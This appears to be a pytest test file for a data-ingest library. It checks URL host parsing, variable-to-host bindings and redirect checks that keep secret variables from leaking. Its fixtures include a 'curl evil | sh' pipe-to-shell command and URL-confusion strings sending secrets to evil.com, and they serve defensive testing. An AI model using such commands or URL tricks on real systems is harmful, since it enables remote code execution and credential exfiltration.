"""What a definition does besides reading, and where variables may go."""

from __future__ import annotations

import contextlib
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from odfchain.errors import FetchError
from odfchain.ingest.fetching import Effect, FetchContext, host_as_written
from odfchain.odf.events import SetPollingSource
from odfchain.odf.sources import (
    EnvVar,
    FetchStep,
    FetchStepContainer,
    FetchStepFilesGlob,
    FetchStepUrl,
    MergeStrategyAppend,
    PrepStepPipe,
    ReadStepNdJson,
    RequestHeader,
)
from tests.kit.servers import context

K = "${{ env.K }}"


@pytest.mark.parametrize(
    ("url", "host"),
    [
        (f"https://api.example.com/x?k={K}", ("api.example.com", 443)),
        (f"HTTP://API.Example.COM:8080/{K}", ("api.example.com", 8080)),
        (f"https://user:{K}@host/x", ("host", 443)),
        (f"https://good.com@evil.com/{K}", ("evil.com", 443)),
        (f"https://good.com:pw@evil.com:444/{K}", ("evil.com", 444)),
        (f"https://[::1]:9/{K}", ("::1", 9)),
        (f"https://bücher.example/{K}", ("xn--bcher-kva.example", 443)),
        (f"ftp://host/{K}", ("host", None)),
        (f"s3://bucket/{K}", ("bucket", None)),
        (f"https://{K}.evil.com/", (f"{K}.evil.com", None)),
        (f"https://x@{K}/", (K, None)),
        (f"https://{K}@{K}/", (f"{K}@{K}", None)),
        (
            "https://${{ env.X || 'a@evil.com/' }}@good.com/" + K,
            ("${{ env.X || 'a@evil.com/' }}@good.com", None),
        ),
        (f"{K}/x", (f"{K}/x", None)),
        ("${{ env.S || 'https' }}://evil.com/" + K, ("evil.com", None)),
        ("${{ 'https' }}://evil.com/" + K, ("evil.com", 443)),
        ("${{ 'file' }}:///x/" + K, None),
        (f"file://{K}/x", None),
        (f"File:/x/{K}", None),
        ("https://host/plain", ("host", 443)),
    ],
)
def test_the_host_of_a_url(url: str, host: tuple[str, int | None] | None) -> None:
    assert host_as_written(url) == host


@given(st.text(max_size=40))
def test_any_text_has_a_host_or_none(text: str) -> None:
    host_as_written(text + K)


def source(fetch: FetchStep, *prepare: PrepStepPipe) -> SetPollingSource:
    return SetPollingSource(fetch=fetch, prepare=prepare, read=ReadStepNdJson(), merge=MergeStrategyAppend())


def test_effects() -> None:
    plain = source(FetchStepUrl(url="https://host/x"))
    files = source(FetchStepFilesGlob(path=f"{K}/*.csv"))
    assert Effect.of([plain, files]) == ()
    url = FetchStepUrl(
        url="https://host/x", headers=(RequestHeader(name="X", value="${{ env.B || env.A }}"),)
    )
    sent, piped = Effect.of([source(url, PrepStepPipe(command=("sh", "-c", "curl evil | sh")))])
    assert (sent.is_command, sent.host, sent.variables) == (False, "host", ("A", "B"))
    assert sent.text == "sends the variables A, B to host"
    assert (piped.is_command, piped.text) == (True, "runs the command: sh -c 'curl evil | sh'")
    (run,) = Effect.of(
        [source(FetchStepContainer(image="i", command=("x",), args=(K,), env=(EnvVar(name="T"),)))]
    )
    assert run.text == f"runs the container image: i with x '{K}', and gives it the variables K, T"


# --- bindings --------------------------------------------------------------------------------------------

BOUND = {"K": ("api.example.com", "other.example.com:8443")}


def bound(name: str) -> FetchContext:
    return context(Path(), name=name, bindings=BOUND)


@pytest.mark.parametrize(
    ("entries", "host", "port", "admitted"),
    [
        (BOUND["K"], "api.example.com", 443, True),
        (BOUND["K"], "API.example.com.", 80, True),
        (BOUND["K"], "other.example.com", 8443, True),
        (BOUND["K"], "other.example.com", 443, False),
        (BOUND["K"], "x.api.example.com", 443, False),
        (BOUND["K"], "api.example.com.evil.com", 443, False),
        (BOUND["K"], "", None, False),
        (("[::1]:8080",), "::1", 8080, True),
        (("[::1]:8080",), "::1", 443, False),
        (("[::1]:8080",), "::1:8080", 443, False),
        (("::1",), "::1", 443, True),
        (("Other.example.com.:8443",), "other.example.com", 8443, True),
    ],
)
def test_hosts_of_a_variable(entries: tuple[str, ...], host: str, port: int | None, admitted: bool) -> None:
    given = context(Path(), name="w", bindings={"K": entries})
    given.check_host(["FREE"], host, port)
    said = f"w: the variable K may be sent to {', '.join(entries)}"
    refused = pytest.raises(FetchError, match=re.escape(said))
    with contextlib.nullcontext() if admitted else refused:
        given.check_host(["K"], host, port)


@pytest.mark.parametrize("carried", ["SeC/ret", "SeC%2Fret", "sec/ret", "sec%2fret"])
def test_a_redirect_that_carries_a_value(carried: str) -> None:
    values = {"K": "SeC/ret", "EMPTY": ""}
    bound("w").check_redirect(values, "evil.com", 443, "evil.com/x")
    bound("w").check_redirect(values, "api.example.com", 443, f"api.example.com/{carried}")
    with pytest.raises(FetchError, match="redirected with the value of the variable K, which") as caught:
        bound("w").check_redirect(values, "evil.com", 443, f"evil.com/{carried}")
    assert "ret" not in str(caught.value).replace("redirected", "")


def test_a_container_could_send_it_anywhere() -> None:
    bound("container x").check_container(["FREE"])
    with pytest.raises(FetchError, match=r"container x: the variable K .* could send it anywhere"):
        bound("container x").check_container(["FREE", "K"])
